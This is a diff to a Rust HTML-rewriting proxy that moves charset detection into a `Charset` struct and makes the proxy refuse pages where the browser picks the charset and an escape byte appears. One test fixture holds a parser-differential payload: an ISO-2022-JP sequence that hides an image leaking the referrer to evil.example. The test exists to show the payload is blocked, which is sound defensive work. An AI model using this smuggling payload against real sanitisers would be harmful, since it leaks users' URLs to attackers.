@@ -103,41 +103,48 @@ fn charset_label(headers: &HeaderMap) -> Result<Option<&str>, ()> {
     Ok(label)
 }
 
-/// Whether the browser, not the response's headers, picks the page's
-/// character set (from a `<meta>`, or by guessing from its bytes).
-pub fn browser_picks_charset(headers: &HeaderMap) -> bool {
-    matches!(charset_label(headers), Ok(None))
+/// The character set a page is rewritten in.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Charset {
+    pub encoding: &'static encoding_rs::Encoding,
+    /// The response's `Content-Type` names it. When it does not, the
+    /// browser picks (from a `<meta>`, or by guessing from the bytes).
+    pub declared: bool,
 }
 
-/// The character set a `text/html` response declares, if it can be rewritten.
-pub fn charset(headers: &HeaderMap) -> Option<&'static encoding_rs::Encoding> {
+/// The character set of a `text/html` response, if it can be rewritten.
+pub fn charset(headers: &HeaderMap) -> Option<Charset> {
     let label = charset_label(headers).ok()?;
     match label {
         // Without a label, lol_html starts as UTF-8 and follows <meta charset>.
-        None => Some(encoding_rs::UTF_8),
+        None => Some(Charset {
+            encoding: encoding_rs::UTF_8,
+            declared: false,
+        }),
         Some(label) => {
-            let enc = encoding_rs::Encoding::for_label(label.as_bytes())?;
-            enc.is_ascii_compatible().then_some(enc)
+            let encoding = encoding_rs::Encoding::for_label(label.as_bytes())?;
+            encoding.is_ascii_compatible().then_some(Charset {
+                encoding,
+                declared: true,
+            })
         }
     }
 }
 
 /// `body` (encoded with `coding`) rewritten for `ticket`, decoded, as a new
 /// streaming body. Callers drop `Content-Length` and `Content-Encoding`.
-/// `browser_picks` (see [`browser_picks_charset`]): the page must not hold
-/// what could make the browser read it as ISO-2022-JP.
+/// Where the browser picks the charset (`charset.declared` is false), the
+/// page must not hold what could make it read ISO-2022-JP.
 pub fn rewrite(
     body: ProxyBody,
     coding: Coding,
-    encoding: &'static encoding_rs::Encoding,
-    browser_picks: bool,
+    charset: Charset,
     origin: Origin,
     ticket: Ticket,
 ) -> ProxyBody {
     let (tx, mut rx) = mpsc::channel::<Result<Frame<Bytes>, BoxError>>(4);
     tokio::spawn(async move {
-        let pumped = pump(body, coding, encoding, browser_picks, origin, ticket, &tx).await;
-        if let Err(error) = pumped {
+        if let Err(error) = pump(body, coding, charset, origin, ticket, &tx).await {
             tracing::debug!(%error, "rewriting a page failed");
             let _ = tx.send(Err(error)).await;
         }
@@ -149,8 +156,7 @@ pub fn rewrite(
 async fn pump(
     body: ProxyBody,
     coding: Coding,
-    encoding: &'static encoding_rs::Encoding,
-    browser_picks: bool,
+    charset: Charset,
     origin: Origin,
     ticket: Ticket,
     tx: &mpsc::Sender<Result<Frame<Bytes>, BoxError>>,
@@ -165,7 +171,7 @@ async fn pump(
     // The sink is synchronous; it fills a buffer that is sent after each write.
     let out = Arc::new(Mutex::new(Vec::<u8>::new()));
     let sink = out.clone();
-    let mut rewriter = html::rewriter(origin, ticket, encoding, move |chunk: &[u8]| {
+    let mut rewriter = html::rewriter(origin, ticket, charset.encoding, move |chunk: &[u8]| {
         if let Ok(mut buf) = sink.lock() {
             buf.extend_from_slice(chunk);
         }
@@ -199,7 +205,7 @@ async fn pump(
         // a `<!--` the rewriter reads is two kanji to the browser, and what
         // it hides is markup (review 17). Without an ESC byte both read the
         // same markup; with one, nothing more is sent (fails closed).
-        if browser_picks && data.contains(&0x1B) {
+        if !charset.declared && data.contains(&0x1B) {
             return Err("an escape byte in a page whose charset the browser picks (URL mode ends the page there)".into());
         }
         if head.len() < 2 {
@@ -238,6 +244,18 @@ mod tests {
 
     use super::*;
 
+    /// Headers with this `Content-Type`.
+    fn content_type(ct: &'static str) -> HeaderMap {
+        let mut h = HeaderMap::new();
+        h.insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
+        h
+    }
+
+    const UTF_8: Charset = Charset {
+        encoding: encoding_rs::UTF_8,
+        declared: true,
+    };
+
     #[test]
     fn codings_and_charsets() {
         let mut h = HeaderMap::new();
@@ -256,7 +274,10 @@ mod tests {
             header::CONTENT_TYPE,
             HeaderValue::from_static("text/html; charset=\"ISO-8859-1\""),
         );
-        assert_eq!(charset(&h), Some(encoding_rs::WINDOWS_1252));
+        assert_eq!(
+            charset(&h).map(|c| c.encoding),
+            Some(encoding_rs::WINDOWS_1252)
+        );
         h.insert(
             header::CONTENT_TYPE,
             HeaderValue::from_static("text/html;charset=utf-16"),
@@ -299,14 +320,7 @@ mod tests {
             (Coding::Brotli, br),
         ] {
             let (origin, ticket) = ticket();
-            let out = rewrite(
-                crate::body::full(encoded),
-                coding,
-                encoding_rs::UTF_8,
-                false,
-                origin,
-                ticket,
-            );
+            let out = rewrite(crate::body::full(encoded), coding, UTF_8, origin, ticket);
             let bytes = out.collect().await.unwrap().to_bytes();
             assert_eq!(
                 bytes,
@@ -320,14 +334,7 @@ mod tests {
     async fn a_corrupt_compressed_body_ends_in_an_error_not_a_panic() {
         let (origin, ticket) = ticket();
         let body = crate::body::full(&b"not gzip at all"[..]);
-        let out = rewrite(
-            body,
-            Coding::Gzip,
-            encoding_rs::UTF_8,
-            false,
-            origin,
-            ticket,
-        );
+        let out = rewrite(body, Coding::Gzip, UTF_8, origin, ticket);
         assert!(out.collect().await.is_err());
     }
 
@@ -338,14 +345,16 @@ mod tests {
     async fn an_escape_byte_ends_a_page_whose_charset_the_browser_picks() {
         let page = "<p>before</p><meta charset=iso-2022-jp>\x1b$B<!--\x1b(B\
                     <img referrerpolicy=unsafe-url src=http://evil.example/>-->";
-        for (browser_picks, cut) in [(true, true), (false, false)] {
+        for (declared, cut) in [(false, true), (true, false)] {
             let (origin, ticket) = ticket();
             let body = crate::body::full(page.to_owned());
             let out = rewrite(
                 body,
                 Coding::Identity,
-                encoding_rs::UTF_8,
-                browser_picks,
+                Charset {
+                    encoding: encoding_rs::UTF_8,
+                    declared,
+                },
                 origin,
                 ticket,
             );
@@ -362,24 +371,16 @@ mod tests {
             assert_eq!(failed, cut, "{got}");
             assert_eq!(got.contains("evil"), !cut, "{got}");
         }
-        let headers = |ct: &'static str| {
-            let mut h = HeaderMap::new();
-            h.insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
-            h
-        };
-        assert!(browser_picks_charset(&headers("text/html")));
-        assert!(!browser_picks_charset(&headers("text/html; charset=utf-8")));
+        let declared = |ct| charset(&content_type(ct)).map(|c| c.declared);
+        assert_eq!(declared("text/html"), Some(false));
+        assert_eq!(declared("text/html; charset=utf-8"), Some(true));
     }
 
     /// Review 18: a `Content-Type` a browser reads differently (no
     /// charset, or another one) is refused, never guessed.
     #[test]
     fn a_charset_written_so_that_readers_may_disagree_is_refused() {
-        let of = |ct: &'static str| {
-            let mut h = HeaderMap::new();
-            h.insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
-            charset(&h)
-        };
+        let of = |ct| charset(&content_type(ct)).map(|c| c.encoding);
         for odd in [
             "text/html; charset = utf-8",
             "text/html; charset =utf-8",
